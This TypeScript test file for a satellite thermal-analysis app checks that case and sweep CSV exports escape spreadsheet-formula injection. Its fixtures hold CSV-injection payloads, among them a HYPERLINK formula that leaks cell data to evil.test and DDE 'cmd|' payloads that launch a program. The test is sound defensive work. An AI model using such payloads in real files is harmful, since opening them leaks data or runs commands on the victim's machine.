// Issue 12, item 8: exports cannot carry spreadsheet formulas. A mission, orbit, surface or case
// named =HYPERLINK(…), +cmd|…, @… or -… appeared unescaped in the case CSV and the sweep CSV. Every
// CSV now goes through one cell writer (shared/csv/csv-cell.ts) that prefixes such text with a single
// quote, as OWASP's "CSV Injection" guidance says, while numbers, negative ones included, stay numbers.
import { parse } from 'csv-parse/sync';
import type request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { libraryMaterialIdOf } from './mission-fixtures';
import { createTestApp, type TestApp } from './test-app';

let t: TestApp;
let analyst: request.Agent;
let thermal: request.Agent;
let missionId: string;
let orbitId: string;

const names = {
  mission: '=HYPERLINK("http://evil.test/?leak="&A1,"open me")',
  orbit: "+cmd|' /C calc'!A0",
  surfaceA: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  surfaceB: '-2+3+cmd|\' /C calc\'!A0',
  caseName: '=1+1 study',
};

/** OWASP's formula starts: = + - @ tab CR. */
const formulaStart = /^[=+\-@\t\r]/;
const isNumber = (cell: string) => /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);

/** Every cell a spreadsheet would evaluate: starts like a formula and is not a plain number. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => formulaStart.test(cell) && !isNumber(cell));
}

beforeAll(async () => {
  t = await createTestApp();
  [analyst, thermal] = await Promise.all(['analyst@kestrel.test', 'thermal@kestrel.test'].map((e) => t.signIn(e)));
  const mission = await analyst.post('/api/v1/missions').send({ name: names.mission, bodyId: 'earth', startDate: '2027-03-01', endDate: '2027-12-31' }).expect(201);
  missionId = mission.body.id;
  const orbit = await analyst
    .post(`/api/v1/missions/${missionId}/orbits`)
    .send({ name: names.orbit, epoch: '2027-03-01T00:00:00Z', periapsisAltitudeKm: 420, apoapsisAltitudeKm: 420, inclinationDeg: 51.6 })
    .expect(201);
  orbitId = orbit.body.id;
  const materialId = libraryMaterialIdOf(t, 'white silicone paint');
  for (const [name, normal] of [[names.surfaceA, 'zenith'], [names.surfaceB, 'nadir']] as const) {
    await thermal.post(`/api/v1/missions/${missionId}/surfaces`).send({ name, normal, areaM2: 0.5, materialId }).expect(201);
  }
});
afterAll(() => t.close());

describe('the case CSV', () => {
  it('writes every hostile name as text behind a single quote, and no cell a spreadsheet would evaluate', async () => {
    const made = await thermal
      .post(`/api/v1/missions/${missionId}/cases`)
      .send({ orbitId, name: names.caseName, date: '2027-06-01', betaDeg: -30, steps: 12 })
      .expect(201);
    const res = await thermal.get(`/api/v1/cases/${made.body.id}/export?format=csv`).expect(200);
    expect(formulaCells(res.text)).toEqual([]);
    const rows = parse(res.text, { relax_column_count: true }) as string[][];
    const value = (key: string) => rows.find((r) => r[0] === key)?.[1];
    expect(value('name')).toBe(`'${names.caseName}`);
    expect(value('mission')).toBe(`'${names.mission}`);
    expect(value('orbit')).toBe(`'${names.orbit}`);
    const header = rows.find((r) => r[0] === 'tS [s]')!;
    expect(header).toContain(`'${names.surfaceA} solar incident [W/m^2]`);
    expect(header).toContain(`'${names.surfaceB} absorbed total [W]`);
    // real numbers stay numbers: the negative beta is written as -30, not '-30
    expect(value('beta [deg]')).toBe('-30');
  });
});

describe('the sweep CSV', () => {
  it('writes the surface names as text and the negative betas as numbers', async () => {
    const res = await analyst.get(`/api/v1/missions/${missionId}/orbits/${orbitId}/sweep?format=csv&from=2027-03-01&to=2027-06-01&stepDays=3`).expect(200);
    expect(formulaCells(res.text)).toEqual([]);
    const [header, ...days] = parse(res.text) as string[][];
    expect(header).toContain(`'${names.surfaceA} absorbed, orbit average (W)`);
    expect(header).toContain(`'${names.surfaceB} absorbed, orbit average (W)`);
    const betas = days.map((d) => d[1]!);
    // a 51.6 deg orbit's beta swings through negative values within weeks (from memory: about a 60-day cycle)
    expect(betas.some((b) => b.startsWith('-'))).toBe(true);
    expect(betas.every(isNumber)).toBe(true);
  });
});
